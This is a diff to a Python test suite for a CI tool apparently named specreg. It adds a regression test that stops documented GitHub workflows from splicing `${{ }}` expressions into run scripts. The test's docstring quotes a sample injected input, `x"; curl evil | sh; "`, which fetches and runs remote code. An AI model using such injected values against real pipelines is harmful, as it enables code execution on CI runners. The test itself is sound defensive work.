@@ -70,7 +70,13 @@ def test_gitlab_pipeline_extends_the_template_as_it_is():
               "SPECREG_LOCK_DIGEST", "SPECREG_AUDIT_HEAD", "SPECREG_REASONS"}
     assert set(re.findall(r"\$(SPECREG_[A-Z_]+)", " ".join(gitlab["promote"]["script"]))) <= dotenv
     assert set(re.findall(r"SPECREG_[A-Z_]+", DOC.read_text().split("## GitLab CI")[1].split("```")[0])) == \
-        dotenv | {"SPECREG_REQUIREMENT", "SPECREG_GATE_PAIR", "SPECREG_GATE_ENV", "SPECREG_GATE_LOCK"}
+        dotenv | {"SPECREG_REQUIREMENT", "SPECREG_PROJECT", "SPECREG_REF", "SPECREG_GATE_PAIR", "SPECREG_GATE_ENV",
+                  "SPECREG_GATE_LOCK"}
+    # what the template's default requirement installs is named where the include is (it was not)
+    install = gitlab_job(".specreg")["variables"]
+    assert {"SPECREG_PROJECT", "SPECREG_REF"} <= set(install) and "${SPECREG_PROJECT}" in install["SPECREG_REQUIREMENT"]
+    assert {name: gitlab["variables"][name] for name in ("SPECREG_PROJECT", "SPECREG_REF")} == \
+        {"SPECREG_PROJECT": include["project"], "SPECREG_REF": include["ref"]}
 
 
 def test_rollout_snippet_fills_in_the_exported_argument():
@@ -132,3 +138,45 @@ def test_documented_gate_steps_run(tmp_path, tiny_models, approval_key):
     assert dotenv["SPECREG_VERDICT"] == "pass" and dotenv["SPECREG_BINDING"] == binding
     assert json.loads((workspace / "gate.json").read_text())["verdict"] == "pass"
     assert (workspace / "gate.xml").read_text().count("<testcase") >= 5
+
+
+def workflow_yaml_blocks() -> list[tuple[str, object]]:
+    """(where, parsed YAML) of every YAML block in the docs and the README that is a GitHub
+    workflow or action (it has `jobs:` or `runs:`), and action.yml itself."""
+    found = [("action.yml", ACTION)]
+    for page in [ROOT / "README.md", *sorted((ROOT / "docs").rglob("*.md"))]:
+        for number, block in enumerate(re.findall(r"```ya?ml\n(.*?)```", page.read_text(), re.S)):
+            try:
+                parsed = yaml.safe_load(block)
+            except yaml.YAMLError:
+                continue  # a fragment, not a workflow
+            if isinstance(parsed, dict) and ("jobs" in parsed or "runs" in parsed):
+                found.append((f"{page.relative_to(ROOT)} block {number}", parsed))
+    return found
+
+
+def run_scripts(document) -> list[str]:
+    """The `run:` scripts of a workflow's or composite action's steps, wherever they sit."""
+    scripts, stack = [], [document]
+    while stack:
+        item = stack.pop()
+        if isinstance(item, dict):
+            if isinstance(item.get("run"), str):
+                scripts.append(item["run"])
+            stack.extend(item.values())
+        elif isinstance(item, list):
+            stack.extend(item)
+    return scripts
+
+
+def test_no_documented_workflow_splices_an_expression_into_a_script():
+    """Was: docs/ci.md's deploy job ran `specreg promote "${{ inputs.pair }}" ...`: GitHub pastes
+    the expression into the script's source, so a pair input `x"; curl evil | sh; "` ran code.
+    Inputs, step and job outputs reach a script through `env:` only."""
+    documents = workflow_yaml_blocks()
+    assert [where for where, _ in documents][:1] == ["action.yml"] and len(documents) >= 2
+    for where, document in documents:
+        scripts = run_scripts(document)
+        assert scripts or where != "action.yml"
+        for script in scripts:
+            assert "${{" not in script, (where, script)
